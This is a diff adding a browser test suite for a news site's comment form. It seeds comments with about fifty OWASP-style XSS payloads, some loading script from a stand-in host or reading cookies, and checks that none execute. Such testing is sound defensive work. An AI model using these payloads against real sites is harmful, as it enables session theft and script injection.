@@ -1,0 +1,130 @@
+"""Readers comment in a real browser; hostile input never runs as script."""
+
+import json
+
+PUTIN_ARTICLE = "/world/putin-xi-state-visit-beijing/"
+
+# Script-injection attempts in the styles of OWASP's XSS filter evasion cheat sheet.
+PAYLOADS = [
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
+    "<IMG SRC=\"javascript:alert('XSS');\">",
+    "<IMG SRC=javascript:alert('XSS')>",
+    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
+    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
+    '<a onmouseover="alert(document.cookie)">xxs link</a>',
+    '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
+    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
+    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
+    "<IMG SRC= onmouseover=\"alert('xxs')\">",
+    "<IMG onmouseover=\"alert('xxs')\">",
+    '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
+    '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099">',
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
+    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
+    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
+    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
+    '<SCRIPT/XSS SRC="//xss.example/xss.js"></SCRIPT>',
+    '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+    '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
+    "<SCRIPT SRC=//xss.example/.j>",
+    "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
+    '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
+    '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
+    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
+    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
+    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><LI>XSS",
+    "<svg/onload=alert('XSS')>",
+    "<BODY ONLOAD=alert('XSS')>",
+    "<BGSOUND SRC=\"javascript:alert('XSS');\">",
+    '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
+    "<STYLE>@import'//xss.example/xss.css';</STYLE>",
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
+    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
+    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
+    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
+    "<TABLE BACKGROUND=\"javascript:alert('XSS')\">",
+    "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">",
+    "<DIV STYLE=\"width: expression(alert('XSS'));\">",
+    "<STYLE>.XSS{background-image:url(\"javascript:alert('XSS')\");}</STYLE>",
+    "<A CLASS=XSS></A>",
+    "<BASE HREF=\"javascript:alert('XSS');//\">",
+    '<OBJECT TYPE="text/x-scriptlet" DATA="//xss.example/scriptlet.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=">',
+    '<SCRIPT>document.write("<SCRI");</SCRIPT>PT SRC="//xss.example/xss.js"></SCRIPT>',
+    "<A HREF=\"javascript:document.location='//xss.example/'\">XSS</A>",
+    '"><script>alert(document.domain)</script>',
+    "'><img src=x onerror=alert(1)>",
+    "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
+    "<details open ontoggle=alert(1)>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    'https://example.org/"onmouseover="alert(1)',
+    '<a href="https://example.org" onclick="alert(1)">click</a>',
+]
+
+
+# Elements and attributes through which markup could run script or load content.
+FIND_INJECTED = """() => {
+  const area = document.querySelector('#comments');
+  const bad = [];
+  const forbidden = ['script', 'iframe', 'svg', 'img', 'object', 'embed', 'style',
+    'base', 'meta', 'link', 'frameset', 'frame', 'math', 'bgsound', 'input', 'table'];
+  for (const el of area.querySelectorAll('.comment-text *, .comment-author *')) {
+    const tag = el.tagName.toLowerCase();
+    if (forbidden.includes(tag)) bad.push(tag);
+    for (const attr of el.attributes) {
+      if (attr.name.startsWith('on') || attr.name === 'style') {
+        bad.push(tag + '[' + attr.name + ']');
+      }
+    }
+    const href = el.getAttribute('href');
+    if (tag === 'a' && href && !/^https?:/.test(href)) bad.push('a[href=' + href + ']');
+  }
+  return bad;
+}"""
+
+
+def test_guest_posts_a_comment_with_the_form(browser, site_url):
+    page = browser.new_page()
+    page.goto(site_url + PUTIN_ARTICLE)
+    page.get_by_text("Click to comment").click()
+    form = page.locator("details.compose form")
+    form.get_by_label("Name").fill("Browser Reader")
+    form.get_by_label("Email").fill("browser.reader@example.org")
+    form.get_by_label("Your comment").fill("Posted from a real browser.")
+    page.wait_for_timeout(3500)  # people take a few seconds to write
+    form.get_by_role("button", name="Post comment").click()
+    page.wait_for_load_state()
+    assert "once a moderator approves it" in page.locator(".messages").inner_text()
+    assert "browser.reader@example.org" not in page.content()
+    page.close()
+
+
+def test_hostile_names_and_texts_never_run_as_script(browser, site_url, site_shell):
+    site_shell(
+        "import json\n"
+        "from byline.comments.models import Comment\n"
+        "from byline.news.models import ArticlePage\n"
+        f"payloads = json.loads({json.dumps(json.dumps(PAYLOADS))})\n"
+        "a = ArticlePage.objects.get(slug='putin-xi-state-visit-beijing')\n"
+        "for p in payloads:\n"
+        "    c = Comment.objects.create(article=a, name=p[:80], email='x@e.org',\n"
+        "        text=p, status='approved')\n"
+        "    c.root = c; c.save(update_fields=['root'])\n"
+    )
+    page = browser.new_page()
+    dialogs = []
+    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
+    for path in [PUTIN_ARTICLE, PUTIN_ARTICLE + "?sort=newest"]:
+        page.goto(site_url + path)
+        page.wait_for_timeout(300)
+        # Hover and click over every comment, to give on* handlers their chance.
+        for text in page.locator(".comment-text").all()[:60]:
+            text.hover()
+        injected = page.evaluate(FIND_INJECTED)
+        assert injected == []
+    assert dialogs == []
+    # The payloads are there, shown as the text the reader typed.
+    page.goto(site_url + PUTIN_ARTICLE)
+    assert "<script>alert(1)</script>" in page.locator("#comments").inner_text()
+    page.close()
